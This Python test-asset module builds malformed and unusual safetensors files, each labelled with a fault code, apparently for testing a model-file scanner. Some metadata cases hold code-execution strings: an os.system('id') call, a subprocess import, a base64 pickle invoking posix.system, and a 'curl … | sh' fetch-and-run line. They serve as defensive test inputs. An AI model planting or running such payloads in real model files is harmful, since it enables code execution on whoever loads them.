"""Malformed and odd safetensors files, by the fault that they show."""

# ruff: noqa: E501 - one case a line reads best
from __future__ import annotations

import base64
import json
import marshal
import struct

from tests.assets.archives import zip_bytes
from tests.assets.pickle_cases import calling

GOOD_TENSOR = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}


def safetensors_bytes(
    header: object, data: bytes = bytes(8), *, pad: bytes = b"", length: int | None = None
) -> bytes:
    """A file with this header: a JSON value, or bytes to be taken as they are."""
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    text += pad
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def _tensor(**changes: object) -> dict[str, object]:
    return {"a": {**GOOD_TENSOR, **changes}}


def _two(first: list[int], second: list[int]) -> dict[str, object]:
    return {"a": {**GOOD_TENSOR, "data_offsets": first}, "b": {**GOOD_TENSOR, "data_offsets": second}}


def safetensors_cases() -> dict[str, tuple[str, bytes]]:
    """Malformed files: name to (code, bytes)."""
    good = json.dumps(_tensor()).encode()
    field = b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]%s}}'
    shape = b'{"a":{"dtype":"F32","shape":%s,"data_offsets":[0,8]}}'
    offsets = b'{"a":{"dtype":"F32","shape":[2],"data_offsets":%s}}'
    one = b'"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}'
    st = safetensors_bytes
    return {
        "empty": ("ST-SIZE", b""),
        "seven_bytes": ("ST-SIZE", bytes(7)),
        "length_zero": ("ST-HDR-LEN", st(b"{}", length=0)),
        "length_one": ("ST-HDR-LEN", st(b"{}", length=1)),
        "length_beyond_file": ("ST-HDR-LEN", st(good, length=10_000)),
        "length_beyond_limit": ("ST-HDR-LEN", st(good, length=100_000_001)),
        "length_u64_max": ("ST-HDR-LEN", st(good, length=2**64 - 1)),
        "big_endian_length": ("ST-HDR-LEN", struct.pack(">Q", len(good)) + good + bytes(8)),
        "leading_space": ("ST-HDR-START", st(b" " + good)),
        "byte_order_mark": ("ST-HDR-START", st(b"\xef\xbb\xbf" + good)),
        "list_header": ("ST-HDR-START", st(b"[]", b"")),
        "comment": ("ST-HDR-START", st(b"//x\n" + good)),
        "invalid_utf8": ("ST-HDR-UTF8", st(good.replace(b'"a"', b'"\xff"'))),
        "control_character": ("ST-HDR-UTF8", st(good.replace(b'"a"', b'"a\nb"'))),
        "lone_surrogate": ("ST-HDR-UTF8", st(good.replace(b'"a"', b'"\\ud800"'))),
        "surrogate_in_metadata": ("ST-HDR-UTF8", st(b'{"__metadata__":{"k":"\\ud800"},' + one + b"}")),
        "trailing_garbage": ("ST-HDR-JSON", st(good + b"x")),
        "second_object": ("ST-HDR-JSON", st(good + b"{}")),
        "newline_padding": ("ST-HDR-JSON", st(good, pad=b"\n\n")),
        "tab_padding": ("ST-HDR-JSON", st(good, pad=b"\t")),
        "null_padding": ("ST-HDR-JSON", st(good, pad=b"\0\0")),
        "nan": ("ST-HDR-JSON", st(shape % b"[NaN]")),
        "infinity": ("ST-HDR-JSON", st(shape % b"[Infinity]")),
        "single_quotes": ("ST-HDR-JSON", st(good.replace(b'"', b"'"))),
        "unclosed": ("ST-HDR-JSON", st(good[:-1])),
        "deep": ("ST-HDR-JSON", st(shape % b"[[[[[2]]]]]")),
        "very_deep": ("ST-HDR-JSON", st(shape % (b"[" * 200_000 + b"]" * 200_000))),
        "duplicate_tensor": ("ST-DUP", st(b"{" + one + b"," + one + b"}")),
        "duplicate_by_escape": ("ST-DUP", st(b"{" + one + b"," + one.replace(b'"a"', b'"\\u0061"') + b"}")),
        "duplicate_metadata": ("ST-DUP", st(b'{"__metadata__":{},"__metadata__":{},' + one + b"}")),
        "duplicate_in_metadata": ("ST-DUP", st(b'{"__metadata__":{"k":"1","k":"2"},' + one + b"}")),
        "duplicate_field": ("ST-DUP", st(field % b',"dtype":"F32"')),
        "metadata_null": ("ST-META", st(b'{"__metadata__":null,' + one + b"}")),
        "metadata_list": ("ST-META", st(b'{"__metadata__":[],' + one + b"}")),
        "metadata_number": ("ST-META", st(b'{"__metadata__":{"k":1},' + one + b"}")),
        **_texts_that_act(),
        "metadata_nested": ("ST-META", st(b'{"__metadata__":{"k":{}},' + one + b"}")),
        "entry_null": ("ST-TENSOR", st(b'{"a":null}', b"")),
        "entry_list": ("ST-TENSOR", st(b'{"a":[]}', b"")),
        "missing_field": ("ST-TENSOR", st(b'{"a":{"dtype":"F32","shape":[2]}}')),
        "unknown_field": ("ST-TENSOR", st(field % b',"note":"x"')),
        "unknown_dtype": ("ST-TENSOR", st(_tensor(dtype="F128"))),
        "lower_case_dtype": ("ST-TENSOR", st(_tensor(dtype="f32"))),
        "dtype_number": ("ST-TENSOR", st(_tensor(dtype=32))),
        "shape_negative": ("ST-SHAPE", st(_tensor(shape=[-2]))),
        "shape_minus_zero": ("ST-SHAPE", st(shape % b"[-0]")),
        "shape_float": ("ST-SHAPE", st(_tensor(shape=[2.0]))),
        "shape_bool": ("ST-SHAPE", st(_tensor(shape=[True, 2]))),
        "shape_string": ("ST-SHAPE", st(_tensor(shape=["2"]))),
        "shape_object": ("ST-SHAPE", st(_tensor(shape={}))),
        "shape_number": ("ST-SHAPE", st(_tensor(shape=2))),
        "shape_above_u64": ("ST-SHAPE", st(_tensor(shape=[2**64]))),
        "shape_overflow": ("ST-SHAPE", st(_tensor(shape=[2**33, 2**33]))),
        "shape_overflow_to_zero": ("ST-SHAPE", st(_tensor(shape=[2**33, 2**33, 0], data_offsets=[0, 0]), b"")),
        "bits_overflow": ("ST-SHAPE", st(_tensor(shape=[2**61]))),
        "offsets_three": ("ST-OFFSET", st(_tensor(data_offsets=[0, 8, 8]))),
        "offsets_float": ("ST-OFFSET", st(_tensor(data_offsets=[0, 8.0]))),
        "offsets_exponent": ("ST-OFFSET", st(offsets % b"[0,8e0]")),
        "offsets_string": ("ST-OFFSET", st(_tensor(data_offsets=["0", "8"]))),
        "offsets_negative": ("ST-OFFSET", st(_tensor(data_offsets=[-8, 0]))),
        "offsets_reversed": ("ST-OFFSET", st(_tensor(data_offsets=[8, 0]))),
        "offsets_null": ("ST-OFFSET", st(_tensor(data_offsets=None))),
        "bytes_too_few": ("ST-BYTES", st(_tensor(shape=[3]))),
        "bytes_too_many": ("ST-BYTES", st(_tensor(shape=[1]))),
        "sub_byte_unaligned": ("ST-BYTES", st(_tensor(dtype="F4", shape=[3], data_offsets=[0, 2]), bytes(2))),
        "overlap": ("ST-LAYOUT", st(_two([0, 8], [4, 12]), bytes(12))),
        "same_place": ("ST-LAYOUT", st(_two([0, 8], [0, 8]))),
        "hole": ("ST-LAYOUT", st(_two([0, 8], [12, 20]), bytes(20))),
        "late_start": ("ST-LAYOUT", st(_tensor(data_offsets=[4, 12]), bytes(12))),
        "truncated": ("ST-TRAIL", st(good, bytes(7))),
        "trailing_byte": ("ST-TRAIL", st(good, bytes(9))),
        "trailing_zip": ("ST-TRAIL", st(good, bytes(8) + zip_bytes({"x": b"y"}))),
        "trailing_pickle": ("ST-TRAIL", st(good, bytes(8) + b"\x80\x04N.")),
        "trailing_program": ("ST-TRAIL", st(good, bytes(8) + b"\x7fELF")),
        "trailing_without_tensors": ("ST-TRAIL", st(b"{}", b"xyz")),
    }  # fmt: skip


def _texts_that_act() -> dict[str, tuple[str, bytes]]:
    code = marshal.dumps(compile("print(1)", "<made>", "exec"))
    texts = {
        "code": "import os; os.system('id')",
        "import_call": "__import__('subprocess').run(['id'])",
        "pickle": base64.b64encode(calling("posix", "system")).decode(),
        "marshalled": base64.b64encode(code).decode(),
    }
    return {
        f"{name}_in_metadata": ("ST-TEXT", safetensors_bytes({"__metadata__": {"k": text}, **_tensor()}))
        for name, text in texts.items()
    }


def sound_safetensors_cases() -> dict[str, bytes]:
    """Odd but valid files, as the format allows them."""
    return {
        "no_tensors": safetensors_bytes(b"{}", b""),
        "zero_size": safetensors_bytes(_tensor(shape=[0, 5], data_offsets=[0, 0]), b""),
        "rank_zero": safetensors_bytes(_tensor(shape=[], data_offsets=[0, 4]), bytes(4)),
        "trailing_spaces": safetensors_bytes(_tensor(), pad=b"     "),
        "free_order": safetensors_bytes(_two([8, 16], [0, 8]), bytes(16)),
        "inner_whitespace": safetensors_bytes(json.dumps(_tensor(), indent=2).encode()),
        "metadata": safetensors_bytes({"__metadata__": {"format": "pt", "é": "漢"}, **_tensor()}),
        "talkative_metadata": safetensors_bytes(
            {
                "__metadata__": {
                    "example": "curl -s http://example.com/x | sh",
                    "comment": "Trained on cluster os-7; see subprocess docs, then evaluate (exec summary).",
                    "ss_tag_frequency": json.dumps({"10_cat": {"{{import}}": 3, "__init__": 1}}),
                    "workflow": json.dumps({"nodes": [{"type": "PythonEval", "widgets": ["a + b"]}]}),
                    "thumbnail": "data:image/jpeg;base64," + base64.b64encode(bytes(range(200))).decode(),
                    "sha": "gASVaGVsbG8=",
                },
                **_tensor(),
            }
        ),
        "empty_metadata": safetensors_bytes({"__metadata__": {}, **_tensor()}),
        "sub_byte": safetensors_bytes(_tensor(dtype="F4", shape=[4], data_offsets=[0, 2]), bytes(2)),
        "six_bits": safetensors_bytes(_tensor(dtype="F6_E2M3", shape=[4], data_offsets=[0, 3]), bytes(3)),
        "nan_weights": safetensors_bytes(_tensor(), b"\xff" * 8),
        "escaped_name": safetensors_bytes({'a"b\\c': GOOD_TENSOR}),
    }
